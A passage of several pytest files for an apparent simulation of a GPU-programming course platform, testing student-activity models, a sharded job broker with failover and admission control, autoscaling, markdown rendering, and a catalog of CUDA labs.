        series = HourlySeries(hours=48)
        series.add(5, 7)
        series.add(25, 3)
        assert list(series.daily_max()) == [7, 3]


class TestPopulationModel:
    @pytest.fixture(scope="class")
    def hpp2015(self):
        return StudentPopulation(
            HPP_2015.figure1_population_params()).generate()

    def test_weekly_spike_on_day_before_deadline(self, hpp2015):
        # deadline_day=4 (Thursday when day 0 is Sunday); rush is day 3
        assert spike_day_of_week(hpp2015.hourly_active) == 3

    def test_peak_matches_figure1(self, hpp2015):
        assert 90 <= hpp2015.hourly_active.peak <= 140  # paper: 112

    def test_late_course_trough_matches_figure1(self, hpp2015):
        late_daily_max = hpp2015.hourly_active.daily_max()[7:]
        assert 2 <= late_daily_max.min() <= 20  # paper: 8

    def test_participation_declines_weekly(self, hpp2015):
        active = hpp2015.active_per_week
        assert all(a >= b for a, b in zip(active, active[1:]))
        assert active[-1] < active[0] * 0.5

    def test_deterministic_by_seed(self):
        params = PopulationParams(registered=1000, weeks=3, seed=5)
        a = StudentPopulation(params).generate()
        b = StudentPopulation(params).generate()
        assert np.array_equal(a.hourly_active.counts, b.hourly_active.counts)

    def test_invalid_params(self):
        with pytest.raises(ValueError):
            PopulationParams(registered=10, engaged_fraction=0.0)
        with pytest.raises(ValueError):
            PopulationParams(registered=10, weekly_retention=1.5)


class TestFunnel:
    def test_table1_magnitudes(self):
        """The funnel reproduces Table I within sampling noise."""
        published = {
            "HPP 2013": (36896, 2729, None),
            "HPP 2014": (33818, 1061, 286),
            "HPP 2015": (35940, 1141, 442),
        }
        for scenario in COURSERA_OFFERINGS:
            result = simulate_funnel(scenario)
            registered, completions, certs = published[scenario.name]
            assert result.registered == registered
            assert abs(result.completions - completions) / completions < 0.15
            if certs is None:
                assert result.certificates == 0
            else:
                assert abs(result.certificates - certs) / certs < 0.20

    def test_2013_rate_higher_than_later_years(self):
        r13 = simulate_funnel(HPP_2013)
        r14 = simulate_funnel(HPP_2014)
        r15 = simulate_funnel(HPP_2015)
        assert r13.completion_rate > 2 * r14.completion_rate
        assert abs(r14.completion_rate - r15.completion_rate) < 0.01

    def test_row_format(self):
        row = simulate_funnel(HPP_2014).row()
        assert set(row) == {"offering", "registered", "completions",
                            "completion_rate_pct", "certificates"}


class TestFleetQueueing:
    def make_arrivals(self, rate_per_hour=100, hours=4, seed=3):
        series = HourlySeries(hours=hours)
        series.counts[:] = rate_per_hour
        arrivals = jobs_from_activity(series, seed=seed,
                                      jobs_per_student_hour=1.0)
        return arrivals, sample_service_times(len(arrivals), seed=seed)

    def test_more_workers_less_waiting(self):
        arrivals, service = self.make_arrivals()
        small = simulate_fleet(arrivals, service, num_workers=1)
        large = simulate_fleet(arrivals, service, num_workers=8)
        assert large.p95_wait <= small.p95_wait
        assert large.utilization < small.utilization

    def test_gpu_hours_accounting(self):
        arrivals, service = self.make_arrivals(hours=2)
        result = simulate_fleet(arrivals, service, num_workers=4)
        assert result.gpu_hours == pytest.approx(
            4 * (result.worker_seconds / 4) / 3600.0)
        assert 0 < result.utilization <= 1.0

    def test_autoscaler_tracks_demand(self):
        arrivals, service = self.make_arrivals(rate_per_hour=200, hours=6)

        def scaler(now, demand, current):
            return max(1, int(demand / 0.7) + 1)

        result = simulate_fleet(arrivals, service, scaler=scaler,
                                scale_interval_s=600.0)
        assert result.worker_counts  # it actually rescaled
        static = simulate_fleet(arrivals, service, num_workers=32)
        assert result.gpu_hours < static.gpu_hours

    def test_exactly_one_policy_required(self):
        arrivals, service = self.make_arrivals(hours=1)
        with pytest.raises(ValueError):
            simulate_fleet(arrivals, service)
        with pytest.raises(ValueError):
            simulate_fleet(arrivals, service, num_workers=2,
                           scaler=lambda *a: 2)

    def test_empty_arrivals(self):
        result = simulate_fleet(np.array([]), np.array([]), num_workers=2)
        assert result.waits == [] and result.gpu_hours == 0.0
