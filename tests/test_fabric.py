"""Broker fabric: sharding, failover, batching, SLO burn, admission."""

import pytest

from repro.broker import DeliveryPolicy, MessageBroker
from repro.broker.autoscaler import FleetManager
from repro.broker.dashboard import Dashboard
from repro.cluster import FaultInjector, ManualClock
from repro.cluster.job import Job, JobKind
from repro.db import Database
from repro.fabric import (
    AdmissionController,
    AdmissionPolicy,
    AdmissionState,
    BrokerFabric,
    FabricConfig,
    SLOBurnMeter,
    SLOPolicy,
)
from repro.labs import get_lab
from repro.telemetry import QUEUE_WAIT_SECONDS, Telemetry

VECADD = get_lab("vector-add")
CUDA = frozenset({"cuda"})


def job_for(course="ece408", kind=JobKind.RUN_DATASET):
    return Job(lab=VECADD, source=VECADD.solution, kind=kind,
               course=course)


def make_fabric(num_shards=4, **kwargs):
    return BrokerFabric(num_shards=num_shards, **kwargs)


def drain(fabric, now=10.0):
    """Poll + ack everything currently deliverable; returns job ids."""
    done = []
    while True:
        polled = fabric.poll(CUDA, 1, now)
        if polled is None:
            break
        fabric.ack(polled[0].job_id, now=now)
        done.append(polled[0].job_id)
    return done


class TestRoutingAndDelivery:
    def test_same_course_lab_same_shard(self):
        fabric = make_fabric()
        shards = {fabric.publish(job_for("ece408"), 0.0)
                  for _ in range(10)}
        assert len(shards) == 1

    def test_courses_spread_across_shards(self):
        fabric = make_fabric()
        shards = {fabric.publish(job_for(f"course-{i}"), 0.0)
                  for i in range(40)}
        assert len(shards) > 1

    def test_poll_ack_roundtrip_any_shard(self):
        fabric = make_fabric()
        jobs = [job_for(f"course-{i}") for i in range(12)]
        for job in jobs:
            fabric.publish(job, 0.0)
        assert fabric.depth() == 12
        done = drain(fabric)
        assert sorted(done) == sorted(j.job_id for j in jobs)
        assert fabric.depth() == 0 and fabric.in_flight_count == 0

    def test_queue_view_aggregates_shards(self):
        fabric = make_fabric()
        for i in range(6):
            fabric.publish(job_for(f"course-{i}"), 0.0)
        view = fabric.queue
        assert len(view) == 6
        assert view.stats.enqueued == 6
        assert view.oldest_wait(5.0) == 5.0

    def test_nack_redelivers_dead_letters_after_max(self):
        fabric = make_fabric(
            policy=DeliveryPolicy(max_attempts=2, backoff_base_s=0.0))
        job = job_for()
        fabric.publish(job, 0.0)
        for attempt in range(2):
            polled = fabric.poll(CUDA, 1, float(attempt))
            assert polled is not None
            fabric.nack(job.job_id, float(attempt), reason="boom")
        assert fabric.poll(CUDA, 1, 10.0) is None
        assert fabric.dead_letter(job.job_id) is not None

    def test_mimics_message_broker_surface(self):
        fabric = make_fabric(num_shards=2)
        assert fabric.zones == ("shard-0", "shard-1")
        stats = fabric.replica_stats()
        assert all(entry["alive"] for entry in stats.values())
        assert fabric.next_wakeup(0.0) is None

    def test_deferred_publish_honors_delay(self):
        fabric = make_fabric()
        job = job_for()
        fabric.publish(job, 0.0, delay_s=60.0)
        assert fabric.poll(CUDA, 1, 30.0) is None
        assert fabric.next_wakeup(30.0) == 60.0
        assert fabric.poll(CUDA, 1, 61.0) is not None


class TestBatchedIO:
    def test_publish_batch_one_rpc_per_shard(self):
        fabric = make_fabric()
        jobs = [job_for(f"course-{i}") for i in range(30)]
        placed = fabric.publish_batch(jobs, 0.0)
        assert sum(placed.values()) == 30
        io = fabric.io_savings()["publish"]
        assert io["ops"] == 30
        assert io["rpcs"] == len(placed)
        assert io["saved"] == 30 - len(placed)

    def test_poll_batch_leases_many_in_one_rpc(self):
        fabric = make_fabric()
        fabric.publish_batch([job_for(f"c{i}") for i in range(8)], 0.0)
        polled = fabric.poll_batch(CUDA, 1, 1.0, max_jobs=8)
        assert len(polled) == 8
        io = fabric.io_savings()["poll"]
        assert io["ops"] == 8 and io["rpcs"] == 1

    def test_ack_batch_coalesces(self):
        fabric = make_fabric()
        fabric.publish_batch([job_for(f"c{i}") for i in range(6)], 0.0)
        polled = fabric.poll_batch(CUDA, 1, 1.0, max_jobs=6)
        acked = fabric.ack_batch([j.job_id for j, _ in polled], now=2.0)
        assert acked == 6
        io = fabric.io_savings()["ack"]
        assert io["ops"] == 6 and io["rpcs"] == 1

    def test_renew_one_rpc_per_shard(self):
        fabric = make_fabric()
        fabric.publish_batch([job_for(f"c{i}") for i in range(10)], 0.0)
        polled = fabric.poll_batch(CUDA, 1, 1.0, max_jobs=10)
        ids = [j.job_id for j, _ in polled]
        renewed = fabric.renew(ids, 2.0)
        assert renewed == 10
        io = fabric.io_savings()["renew"]
        assert io["ops"] == 10
        assert io["rpcs"] <= len(fabric.shards)
        assert io["saved"] >= 10 - len(fabric.shards)


class TestShardFailover:
    def test_waiting_jobs_survive_crash_in_fifo_order(self):
        fabric = make_fabric(num_shards=1)
        jobs = [job_for(f"c{i}") for i in range(5)]
        for t, job in enumerate(jobs):
            fabric.publish(job, float(t))
        report = fabric.crash_shard("shard-0", now=10.0)
        assert report.waiting == 5 and report.in_flight == 0
        assert fabric.depth() == 5
        polled = [fabric.poll(CUDA, 1, 20.0)[0].job_id for _ in range(5)]
        assert polled == [j.job_id for j in jobs]  # FIFO preserved

    def test_crash_preserves_enqueue_time(self):
        fabric = make_fabric(num_shards=1)
        fabric.publish(job_for(), 0.0)
        fabric.crash_shard("shard-0", now=50.0)
        _, wait = fabric.poll(CUDA, 1, 100.0)
        assert wait == 100.0  # measured from the original publish

    def test_leased_job_redelivered_exactly_once(self):
        fabric = make_fabric(num_shards=1)
        job = job_for()
        fabric.publish(job, 0.0)
        fabric.poll(CUDA, 1, 1.0, consumer="w1")
        assert job.delivery.attempts == 1
        report = fabric.crash_shard("shard-0", now=2.0)
        assert report.in_flight == 1
        # the in-flight delivery died with the primary: its attempt is
        # voided so infrastructure loss never walks the job to the DLQ
        polled = fabric.poll(CUDA, 1, 3.0, consumer="w2")
        assert polled is not None and polled[0].job_id == job.job_id
        assert job.delivery.attempts == 1
        failover = job.delivery.failures[-1]
        assert failover["counted"] is False
        assert "failover" in failover["reason"]
        assert fabric.ack(job.job_id, now=4.0)
        assert fabric.depth() == 0 and fabric.in_flight_count == 0

    def test_acked_jobs_gone_after_crash(self):
        fabric = make_fabric(num_shards=1)
        job = job_for()
        fabric.publish(job, 0.0)
        fabric.poll(CUDA, 1, 1.0)
        fabric.ack(job.job_id, now=2.0)
        report = fabric.crash_shard("shard-0", now=3.0)
        assert report.recovered == 0
        assert fabric.depth() == 0

    def test_dead_letters_carried_over(self):
        fabric = make_fabric(
            num_shards=1,
            policy=DeliveryPolicy(max_attempts=1, backoff_base_s=0.0))
        job = job_for()
        fabric.publish(job, 0.0)
        fabric.poll(CUDA, 1, 1.0)
        fabric.nack(job.job_id, 1.0, reason="poison")
        assert fabric.dead_letter(job.job_id) is not None
        fabric.crash_shard("shard-0", now=2.0)
        dead = fabric.dead_letter(job.job_id)
        assert dead is not None and dead.job.job_id == job.job_id

    def test_three_shard_crash_storm_loses_nothing(self):
        fabric = make_fabric(num_shards=3)
        jobs = [job_for(f"c{i}") for i in range(30)]
        fabric.publish_batch(jobs, 0.0)
        injector = FaultInjector(seed=7)
        done = []
        now = 1.0
        for name in ("shard-0", "shard-1", "shard-2"):
            # lease a few, then lose a shard mid-flight
            polled = fabric.poll_batch(CUDA, 1, now, max_jobs=4)
            injector.crash_shard(fabric, name, now)
            now += 1.0
            for job, _ in polled:
                # leases from a crashed shard are already re-seated;
                # acks for them miss (stale lease) — at-least-once says
                # redelivery wins, not the ghost of the old replica
                fabric.ack(job.job_id, now=now)
        while True:
            polled = fabric.poll(CUDA, 1, now)
            if polled is None:
                break
            fabric.ack(polled[0].job_id, now=now)
            done.append(polled[0].job_id)
            now += 0.1
        assert fabric.depth() == 0 and fabric.in_flight_count == 0
        assert not fabric.dead_letters()
        assert len(fabric.failovers) == 3
        assert injector.log.count(("crash_shard", "shard-0")) == 1

    def test_failover_counter_and_summary(self):
        fabric = make_fabric(num_shards=2)
        fabric.crash_shard("shard-1", now=0.0)
        summary = fabric.shard_summary()
        assert summary["shard-1"]["failovers"] == 1
        assert summary["shard-1"]["replica"] == "shard-1/r1"
        assert summary["shard-0"]["replica"] == "shard-0/r0"


class TestRebalancing:
    def test_add_shard_migrates_only_remapped_keys(self):
        fabric = make_fabric(num_shards=4)
        jobs = [job_for(f"c{i}") for i in range(60)]
        fabric.publish_batch(jobs, 0.0)
        moved = fabric.add_shard("shard-4", now=1.0)
        assert 0 < moved < 60 / 4 * 2.5  # ~K/(N+1), generous slack
        assert fabric.depth() == 60
        assert sorted(drain(fabric)) == sorted(j.job_id for j in jobs)

    def test_remove_shard_migrates_waiting_jobs(self):
        fabric = make_fabric(num_shards=4)
        jobs = [job_for(f"c{i}") for i in range(40)]
        fabric.publish_batch(jobs, 0.0)
        fabric.remove_shard("shard-2", now=1.0)
        assert "shard-2" not in fabric.shards
        assert fabric.depth() == 40
        assert sorted(drain(fabric)) == sorted(j.job_id for j in jobs)

    def test_remove_shard_drains_in_flight_lease(self):
        fabric = make_fabric(num_shards=2)
        # pin a job to a known shard, lease it, retire that shard
        job = next(j for j in (job_for(f"c{i}") for i in range(50))
                   if fabric.ring.shard_for(fabric.key_for(j)) == "shard-0")
        fabric.publish(job, 0.0)
        fabric.poll(CUDA, 1, 1.0, consumer="w1")
        fabric.remove_shard("shard-0", now=2.0)
        assert fabric.in_flight_count == 1
        # the retired queue stays addressable for the ack...
        assert fabric.ack(job.job_id, now=3.0)
        # ...and is dropped once its last lease resolves
        assert fabric.in_flight_count == 0
        assert not fabric._draining

    def test_expired_lease_on_retired_shard_reroutes(self):
        fabric = make_fabric(
            num_shards=2,
            policy=DeliveryPolicy(visibility_timeout_s=10.0,
                                  backoff_base_s=0.0))
        job = next(j for j in (job_for(f"c{i}") for i in range(50))
                   if fabric.ring.shard_for(fabric.key_for(j)) == "shard-0")
        fabric.publish(job, 0.0)
        fabric.poll(CUDA, 1, 0.0, consumer="doomed")
        fabric.remove_shard("shard-0", now=1.0)
        expired = fabric.expire_leases(20.0)
        assert [j.job_id for j in expired] == [job.job_id]
        # the job now lives on the surviving shard
        polled = fabric.poll(CUDA, 1, 30.0, consumer="w2")
        assert polled is not None and polled[0].job_id == job.job_id
        assert fabric.ack(job.job_id, now=31.0)
        assert not fabric._draining

    def test_cannot_remove_last_shard(self):
        fabric = make_fabric(num_shards=1)
        with pytest.raises(ValueError):
            fabric.remove_shard("shard-0", now=0.0)


class TestSLOBurnMeter:
    def _observe(self, telemetry, seconds, klass="grade", n=1):
        hist = telemetry.metrics.histogram(QUEUE_WAIT_SECONDS)
        for _ in range(n):
            hist.observe(seconds, klass=klass)

    def test_burn_is_p95_over_target(self):
        telemetry = Telemetry()
        meter = SLOBurnMeter(telemetry,
                             SLOPolicy(queue_wait_p95_slo_s=30.0))
        self._observe(telemetry, 60.0, n=20)
        sample = meter.sample(0.0)
        assert sample.observations == 20
        assert sample.burn >= 2.0  # log buckets round up

    def test_windowing_diffs_between_samples(self):
        telemetry = Telemetry()
        meter = SLOBurnMeter(telemetry, SLOPolicy())
        self._observe(telemetry, 100.0, n=10)
        meter.sample(0.0)
        # new window: only fast deliveries since the last sample
        self._observe(telemetry, 1.0, n=10)
        sample = meter.sample(10.0)
        assert sample.observations == 10
        assert sample.burn < 0.2

    def test_stalled_queue_uses_oldest_wait(self):
        telemetry = Telemetry()
        meter = SLOBurnMeter(telemetry,
                             SLOPolicy(queue_wait_p95_slo_s=30.0))
        sample = meter.sample(0.0, stalled_wait_s=90.0)
        assert sample.observations == 0
        assert sample.burn == pytest.approx(3.0)

    def test_excluded_classes_do_not_feed_burn(self):
        telemetry = Telemetry()
        meter = SLOBurnMeter(telemetry, SLOPolicy())
        self._observe(telemetry, 500.0, klass="preview", n=50)
        sample = meter.sample(0.0)
        assert sample.observations == 0 and sample.burn == 0.0

    def test_due_respects_interval(self):
        meter = SLOBurnMeter(Telemetry(),
                             SLOPolicy(sample_interval_s=5.0))
        assert meter.due(0.0)
        meter.sample(0.0)
        assert not meter.due(4.0)
        assert meter.due(5.0)

    def test_stall_proxy_decays_once_deliveries_resume(self):
        # regression: the raw oldest-job age used to floor the burn
        # signal for the entire drain (the oldest queued job stays old
        # until it is delivered), latching burn at storm level after
        # the fleet had already recovered
        telemetry = Telemetry()
        meter = SLOBurnMeter(telemetry,
                             SLOPolicy(queue_wait_p95_slo_s=30.0))
        stalled = meter.sample(0.0, stalled_wait_s=90.0)
        assert stalled.burn == pytest.approx(3.0)
        burns = []
        for t in (5.0, 10.0, 15.0):
            self._observe(telemetry, 1.0, n=5)
            # the backlog head is still ~as old as during the stall
            burns.append(meter.sample(t, stalled_wait_s=85.0).burn)
        # halves per delivering sample: 45 -> 22.5 -> 11.25 seconds
        assert burns == sorted(burns, reverse=True)
        assert burns[0] == pytest.approx(1.5)
        assert burns[-1] < 0.8  # under the admission recover threshold

    def test_stall_proxy_capped_by_live_backlog_age(self):
        telemetry = Telemetry()
        meter = SLOBurnMeter(telemetry,
                             SLOPolicy(queue_wait_p95_slo_s=30.0))
        meter.sample(0.0, stalled_wait_s=90.0)
        self._observe(telemetry, 1.0, n=5)
        # the old head already drained: only a 6s-old job remains, so
        # the decayed proxy (45s) must not outlive the real backlog
        sample = meter.sample(5.0, stalled_wait_s=6.0)
        assert sample.p95_s == pytest.approx(6.0)

    def test_recovery_reopens_admission(self):
        telemetry = Telemetry()
        meter = SLOBurnMeter(telemetry,
                             SLOPolicy(queue_wait_p95_slo_s=30.0))
        ctl = AdmissionController(AdmissionPolicy(), telemetry)
        burn = meter.sample(0.0, stalled_wait_s=120.0).burn
        assert ctl.observe_burn(burn, 0.0) is AdmissionState.SHEDDING
        # deliveries resume while the backlog head is still ancient;
        # the decaying proxy walks the ladder back down to OPEN
        state = ctl.state
        for t in (5.0, 10.0, 15.0, 20.0, 25.0, 30.0):
            self._observe(telemetry, 1.0, n=5)
            burn = meter.sample(t, stalled_wait_s=119.0).burn
            state = ctl.observe_burn(burn, t)
        assert state is AdmissionState.OPEN

    def test_burn_gauge_exported(self):
        telemetry = Telemetry()
        meter = SLOBurnMeter(telemetry,
                             SLOPolicy(queue_wait_p95_slo_s=30.0))
        meter.sample(0.0, stalled_wait_s=60.0)
        gauge = telemetry.metrics.gauge("webgpu_slo_burn")
        assert gauge.value() == pytest.approx(2.0)


class TestAdmissionControl:
    def make(self, **kwargs):
        return AdmissionController(AdmissionPolicy(**kwargs), Telemetry())

    def test_policy_ordering_validated(self):
        with pytest.raises(ValueError):
            AdmissionPolicy(defer_burn=2.0, shed_burn=1.0)

    def test_ladder_tightens_immediately(self):
        ctl = self.make()
        assert ctl.observe_burn(1.5, 0.0) is AdmissionState.DEFERRING
        assert ctl.observe_burn(2.5, 1.0) is AdmissionState.SHEDDING

    def test_hysteresis_one_rung_per_sample(self):
        ctl = self.make()
        ctl.observe_burn(3.0, 0.0)
        # back under the defer threshold, but not under recover: hold
        assert ctl.observe_burn(0.9, 1.0) is AdmissionState.SHEDDING
        assert ctl.observe_burn(0.5, 2.0) is AdmissionState.DEFERRING
        assert ctl.observe_burn(0.5, 3.0) is AdmissionState.OPEN

    def test_grading_never_shed_or_deferred(self):
        ctl = self.make()
        ctl.observe_burn(10.0, 0.0)
        decision = ctl.decide(job_for(kind=JobKind.FULL_GRADING), 0.0)
        assert decision.action == "admit"

    def test_preview_shed_when_shedding(self):
        ctl = self.make()
        ctl.observe_burn(2.5, 0.0)
        decision = ctl.decide(job_for(kind=JobKind.COMPILE_ONLY), 0.0)
        assert decision.action == "shed" and not decision.admitted

    def test_run_deferred_then_shed_at_extreme_burn(self):
        ctl = self.make()
        ctl.observe_burn(2.5, 0.0)
        mild = ctl.decide(job_for(kind=JobKind.RUN_DATASET), 0.0)
        assert mild.action == "defer" and mild.delay_s > 0
        ctl.observe_burn(5.0, 1.0)
        extreme = ctl.decide(job_for(kind=JobKind.RUN_DATASET), 1.0)
        assert extreme.action == "shed"

    def test_deferring_delays_by_class(self):
        ctl = self.make(run_defer_s=30.0, preview_defer_s=120.0)
        ctl.observe_burn(1.5, 0.0)
        run = ctl.decide(job_for(kind=JobKind.RUN_DATASET), 0.0)
        preview = ctl.decide(job_for(kind=JobKind.COMPILE_ONLY), 0.0)
        assert run.delay_s == 30.0 and preview.delay_s == 120.0

    def test_snapshot_counts_decisions(self):
        ctl = self.make()
        ctl.decide(job_for(), 0.0)
        ctl.observe_burn(1.5, 0.0)
        ctl.decide(job_for(), 1.0)
        snap = ctl.snapshot()
        assert snap["state"] == "deferring"
        assert snap["admitted"] == 1 and snap["deferred"] == 1

    def test_fabric_admit_wires_meter_to_controller(self):
        fabric = make_fabric(slo=SLOPolicy(queue_wait_p95_slo_s=30.0,
                                           sample_interval_s=0.0))
        # a stalled backlog: publish and never drain, then admit
        fabric.publish(job_for("c-old"), 0.0)
        decision = fabric.admit(job_for(kind=JobKind.COMPILE_ONLY),
                                now=200.0)
        # 200s oldest wait vs 30s SLO -> burn ~6.7 -> shedding
        assert decision.action == "shed"
        assert fabric.admission.state is AdmissionState.SHEDDING


class TestSLOFleetManager:
    class _StubWorker:
        def __init__(self, name):
            self.name = name

    class _StubDriver:
        def __init__(self, name):
            self.worker = TestSLOFleetManager._StubWorker(name)

    def make_manager(self, broker, clock, **kwargs):
        counter = iter(range(100))
        spawn = lambda: self._StubDriver(f"w{next(counter)}")  # noqa: E731
        return FleetManager(broker, clock, spawn, lambda d: None,
                            min_workers=1, max_workers=16, **kwargs)

    def test_burning_slo_scales_multiplicatively(self):
        clock = ManualClock()
        broker = MessageBroker(telemetry=Telemetry(clock=clock))
        manager = self.make_manager(
            broker, clock,
            slo=SLOPolicy(queue_wait_p95_slo_s=30.0, sample_interval_s=0.0))
        for _ in range(4):
            manager.adopt(self._StubDriver("seed"))
        hist = broker.telemetry.metrics.histogram(QUEUE_WAIT_SECONDS)
        for _ in range(20):
            hist.observe(120.0, klass="grade")
        event = manager.evaluate()
        assert event is not None and event.action == "add"
        # burn ~4x, capped step factor 2.0: 4 -> 8 in one decision
        assert manager.size == 8
        assert "burn" in event.reason

    def test_recovered_slo_scales_down_additively(self):
        clock = ManualClock()
        broker = MessageBroker(telemetry=Telemetry(clock=clock))
        manager = self.make_manager(
            broker, clock,
            slo=SLOPolicy(queue_wait_p95_slo_s=30.0, sample_interval_s=0.0),
            idle_polls_before_retire=0, cooldown_s=0.0)
        for i in range(4):
            manager.adopt(self._StubDriver(f"seed{i}"))
        event = manager.evaluate()  # burn 0.0 < scale_down 0.5
        assert event is not None and event.action == "remove"
        assert manager.size == 3

    def test_burn_feeds_admission_controller(self):
        clock = ManualClock()
        fabric = make_fabric(slo=SLOPolicy(queue_wait_p95_slo_s=30.0,
                                           sample_interval_s=0.0))
        fabric.telemetry.clock = clock
        manager = self.make_manager(fabric, clock,
                                    slo=SLOPolicy(sample_interval_s=0.0))
        assert manager.admission is fabric.admission
        hist = fabric.telemetry.metrics.histogram(QUEUE_WAIT_SECONDS)
        for _ in range(20):
            hist.observe(120.0, klass="grade")
        manager.evaluate()
        assert fabric.admission.state is not AdmissionState.OPEN

    def test_legacy_depth_mode_untouched_without_slo(self):
        clock = ManualClock()
        broker = MessageBroker(telemetry=Telemetry(clock=clock))
        manager = self.make_manager(broker, clock)
        assert manager.meter is None
        assert manager.evaluate() is None


class TestFabricDashboard:
    def test_shard_and_admission_panels(self):
        fabric = make_fabric(num_shards=2)
        fabric.publish(job_for(), 0.0)
        fabric.slo.sample(0.0, stalled_wait_s=60.0)
        dash = Dashboard(Database("metrics"), fabric)
        text = dash.render()
        assert "shards:" in text
        assert "shard-0" in text and "shard-1" in text
        assert "round-trips saved" in text
        assert "burn" in text
        assert "admission: OPEN" in text

    def test_plain_broker_has_no_fabric_panels(self):
        broker = MessageBroker()
        dash = Dashboard(Database("metrics"), broker)
        snap = dash.snapshot()
        assert "fabric" not in snap and "slo" not in snap
