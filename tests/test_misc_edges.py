"""Remaining edge-case coverage across small modules."""

import numpy as np
import pytest

from repro.simulate import Simulator
from repro.simulate.des import Event
from repro.storage import ObjectStore
from repro.web import render_markdown


class TestDesEdges:
    def test_run_bounded_by_max_events(self):
        sim = Simulator()
        fired = []

        def reschedule():
            fired.append(sim.now())
            sim.schedule(1.0, reschedule)

        sim.schedule(1.0, reschedule)
        sim.run(max_events=5)
        assert len(fired) == 5

    def test_schedule_at_absolute_time(self):
        sim = Simulator(start=100.0)
        fired = []
        sim.schedule_at(150.0, lambda: fired.append(sim.now()))
        sim.run()
        assert fired == [150.0]

    def test_cancelled_events_not_counted(self):
        sim = Simulator()
        event = sim.schedule(1.0, lambda: None)
        sim.schedule(2.0, lambda: None)
        event.cancel()
        sim.run()
        assert sim.events_processed == 1

    def test_event_ordering_dataclass(self):
        a = Event(time=1.0, seq=0, action=lambda: None)
        b = Event(time=1.0, seq=1, action=lambda: None)
        c = Event(time=0.5, seq=2, action=lambda: None)
        assert sorted([b, a, c]) == [c, a, b]


class TestMarkdownEdges:
    def test_h6_is_deepest(self):
        assert "<h6>deep</h6>" in render_markdown("###### deep")

    def test_mixed_list_kinds_close_properly(self):
        html = render_markdown("- bullet\n1. numbered")
        assert html.index("</ul>") < html.index("<ol>")

    def test_code_fence_suppresses_markup(self):
        html = render_markdown("```\n# not a header\n- not a list\n```")
        assert "<h1>" not in html and "<li>" not in html

    def test_inline_code_wins_over_emphasis(self):
        html = render_markdown("`*not em*`")
        assert "<code>*not em*</code>" in html


class TestStorageEdges:
    def test_metadata_preserved_per_version(self):
        bucket = ObjectStore().create_bucket("b")
        bucket.put("k", b"1", metadata={"rev": "a"})
        bucket.put("k", b"2", metadata={"rev": "b"})
        assert bucket.head("k").metadata == {"rev": "b"}
        assert bucket.versions("k")[0].metadata == {"rev": "a"}

    def test_iteration_sorted(self):
        bucket = ObjectStore().create_bucket("b")
        for key in ("z", "a", "m"):
            bucket.put(key, b"x")
        assert list(bucket) == ["a", "m", "z"]


class TestDeviceQueryThroughPlatform:
    def test_demo_lab_grades_on_stdout_markers(self):
        from repro.cluster import ManualClock
        from repro.core import WebGPU
        from repro.core.course import CourseOffering
        from repro.labs import get_lab

        clock = ManualClock()
        platform = WebGPU(clock=clock)
        course = platform.create_course(
            CourseOffering(code="HPP", year=2015), ["device-query"])
        student = platform.users.register("s@x.com", "S", "pw")
        course.enroll(student.user_id)
        lab = get_lab("device-query")
        platform.save_code("HPP-2015", student, "device-query",
                           lab.skeleton)
        clock.advance(30)
        attempt, grade = platform.submit_for_grading(
            "HPP-2015", student, "device-query")
        # the demo lab passes unmodified (its whole point)
        assert attempt.correct
        assert grade.total_points == 100.0
