"""The Table-II lab catalog: integrity, solutions, skeletons, matrix."""

import pytest

from repro.labs import (
    ALL_LABS,
    COURSES,
    EvaluationMode,
    course_matrix,
    execute_lab_source,
    get_lab,
    labs_for_course,
)
from repro.labs.catalog import render_course_matrix
from repro.minicuda import CompileError, compile_source


class TestCatalogIntegrity:
    def test_fifteen_labs(self):
        assert len(ALL_LABS) == 15

    def test_slugs_unique(self):
        slugs = [lab.slug for lab in ALL_LABS]
        assert len(set(slugs)) == len(slugs)

    def test_get_lab_errors_helpfully(self):
        with pytest.raises(KeyError, match="known labs"):
            get_lab("nonexistent")

    def test_every_lab_has_description_and_rubric(self):
        for lab in ALL_LABS:
            assert lab.description.startswith("#"), lab.slug
            assert lab.rubric.total == 100, lab.slug
            assert lab.dataset_sizes, lab.slug

    def test_every_lab_in_some_course(self):
        for lab in ALL_LABS:
            assert lab.courses, f"{lab.slug} is offered nowhere"

    def test_course_matrix_matches_table2_structure(self):
        matrix = dict(course_matrix())
        assert matrix["Vector Addition"] == {
            "HPP": True, "408": True, "598": False, "PUMPS": False}
        assert matrix["OpenCL Vector Addition"]["HPP"]
        assert not matrix["OpenCL Vector Addition"]["408"]
        assert matrix["Multi-GPU Stencil with MPI"] == {
            "HPP": False, "408": False, "598": False, "PUMPS": True}

    def test_labs_for_course(self):
        hpp = {lab.slug for lab in labs_for_course("HPP")}
        assert "vector-add" in hpp and "sgemm" not in hpp
        with pytest.raises(KeyError):
            labs_for_course("CS101")

    def test_hpp_is_the_introductory_track(self):
        assert len(labs_for_course("HPP")) == 8

    def test_render_matrix_has_all_rows(self):
        text = render_course_matrix()
        for lab in ALL_LABS:
            assert lab.title in text
        for course in COURSES:
            assert course in text

    def test_mpi_lab_tagged_for_requirements(self):
        lab = get_lab("mpi-stencil")
        assert "mpi" in lab.requirements
        assert lab.mode is EvaluationMode.MPI


class TestSkeletons:
    def test_all_skeletons_compile(self):
        """Skeletons must compile out of the box — students start from
        them in the editor."""
        for lab in ALL_LABS:
            try:
                compile_source(lab.skeleton)
            except CompileError as exc:  # pragma: no cover - diagnostic aid
                pytest.fail(f"{lab.slug} skeleton: {exc}")

    def test_skeletons_do_not_pass_grading(self):
        """A skeleton must not already be a solution (except the demo
        device-query lab, which requires no edits by design)."""
        for lab in ALL_LABS:
            if lab.slug == "device-query":
                continue
            if lab.skeleton == lab.solution:
                pytest.fail(f"{lab.slug} skeleton equals its solution")

    def test_vector_add_skeleton_runs_but_fails_compare(self):
        lab = get_lab("vector-add")
        result = execute_lab_source(lab, lab.skeleton, lab.dataset(0))
        assert not result.passed


@pytest.mark.parametrize("lab", ALL_LABS, ids=lambda lab: lab.slug)
class TestReferenceSolutions:
    def test_solution_passes_every_dataset(self, lab):
        """The Table II integration test: each reference solution passes
        all of its graded datasets on the simulated GPU."""
        for index in range(len(lab.dataset_sizes)):
            result = execute_lab_source(lab, lab.solution,
                                        lab.dataset(index))
            assert result.passed, (
                f"{lab.slug} dataset {index}: {result.compare.report()}")


class TestLabExecutionDetails:
    def test_tiled_matmul_reduces_global_traffic(self):
        basic = get_lab("basic-matmul")
        tiled = get_lab("tiled-matmul")
        data = basic.dataset(2)
        r_basic = execute_lab_source(basic, basic.solution, data)
        r_tiled = execute_lab_source(tiled, tiled.solution, data)
        tx_basic = sum(s.global_load_transactions for s in r_basic.kernel_stats)
